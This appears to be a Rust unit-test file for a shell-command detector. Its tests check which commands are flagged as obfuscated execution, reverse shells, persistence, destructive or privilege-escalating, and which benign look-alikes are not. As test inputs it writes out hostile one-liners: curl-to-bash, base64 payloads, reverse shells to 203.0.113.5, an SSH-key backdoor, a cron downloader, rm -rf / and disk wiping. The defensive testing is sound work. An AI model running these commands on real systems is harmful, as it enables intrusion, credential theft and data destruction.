//! Unit tests of the command rules: each rule with its tricky positives and honest look-alikes.

use super::*;
use crate::detect::shell::parse_script;
use crate::detect::taxonomy::{DetectionConfig, Taxonomy};

fn rules(s: &str) -> Vec<&'static str> {
    let t = Taxonomy::load(&DetectionConfig::default()).expect("tax");
    let mut r: Vec<&str> = script_hits(&parse_script(s, &t), s, &t)
        .iter()
        .map(|h| h.rule)
        .collect();
    r.dedup();
    r
}

#[test]
fn obfuscated_execution() {
    assert_eq!(
        rules("curl -fsSL https://get.example/install.sh | bash"),
        vec![id::CMD_OBFUSCATED]
    );
    assert_eq!(
        rules("echo Y2F0IH4vLmF3cy9jcmVkZW50aWFscw== | base64 -d | sh"),
        vec![id::CMD_OBFUSCATED]
    );
    assert_eq!(
        rules(r#"bash -c "$(echo Y2F0 | base64 -d)""#),
        vec![id::CMD_OBFUSCATED]
    );
    assert_eq!(
        rules(r#"eval "$(curl -s https://x.example/p)""#),
        vec![id::CMD_OBFUSCATED]
    );
    assert_eq!(
        rules("bash <(curl -s https://x.example/p)"),
        vec![id::CMD_OBFUSCATED]
    );
    assert_eq!(
        rules("python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"),
        vec![id::CMD_OBFUSCATED]
    );
    // benign look-alikes
    assert!(rules("curl -s https://pypi.org/pypi/requests/json | python3 -m json.tool").is_empty());
    assert!(rules(r#"eval "$(ssh-agent -s)""#).is_empty());
    assert!(rules("echo aGVsbG8= | base64 -d").is_empty());
    assert!(rules("cat README.md").is_empty());
}

#[test]
fn reverse_shells() {
    assert_eq!(
        rules("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        vec![id::CMD_REVERSE_SHELL]
    );
    assert_eq!(
        rules("nc -e /bin/sh 203.0.113.5 4444"),
        vec![id::CMD_REVERSE_SHELL]
    );
    assert_eq!(
        rules("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
        vec![id::CMD_REVERSE_SHELL]
    );
    assert_eq!(
        rules("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"),
        vec![id::CMD_REVERSE_SHELL]
    );
    assert!(rules("nc -zv localhost 5432").is_empty());
}

#[test]
fn persistence_destructive_privesc() {
    assert_eq!(
        rules("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
        vec![id::CMD_PERSISTENCE]
    );
    assert_eq!(
        rules("(crontab -l; echo '* * * * * curl x|sh') | crontab -"),
        vec![id::CMD_PERSISTENCE]
    );
    assert_eq!(
        rules("echo 'alias ls=x' | tee -a /home/u/.zshrc"),
        vec![id::CMD_PERSISTENCE]
    );
    assert!(rules("crontab -l").is_empty());
    assert!(rules("echo hi >> notes.txt").is_empty());
    assert_eq!(rules("rm -rf ~/"), vec![id::CMD_DESTRUCTIVE]);
    assert_eq!(
        rules("rm -rf --no-preserve-root /"),
        vec![id::CMD_DESTRUCTIVE]
    );
    assert_eq!(
        rules("dd if=/dev/zero of=/dev/sda bs=1M"),
        vec![id::CMD_DESTRUCTIVE]
    );
    assert_eq!(
        rules("git push --force origin main"),
        vec![id::CMD_DESTRUCTIVE]
    );
    assert!(rules("rm -rf target/ node_modules").is_empty());
    assert!(rules("git push origin feature-x").is_empty());
    assert_eq!(rules("sudo apt-get install -y jq"), vec![id::CMD_PRIVESC]);
    assert_eq!(rules("chmod u+s /tmp/sh"), vec![id::CMD_PRIVESC]);
    assert_eq!(
        rules("echo '1.2.3.4 x' > /etc/hosts"),
        vec![id::CMD_PRIVESC]
    );
    assert!(rules("chmod +x build.sh").is_empty());
}
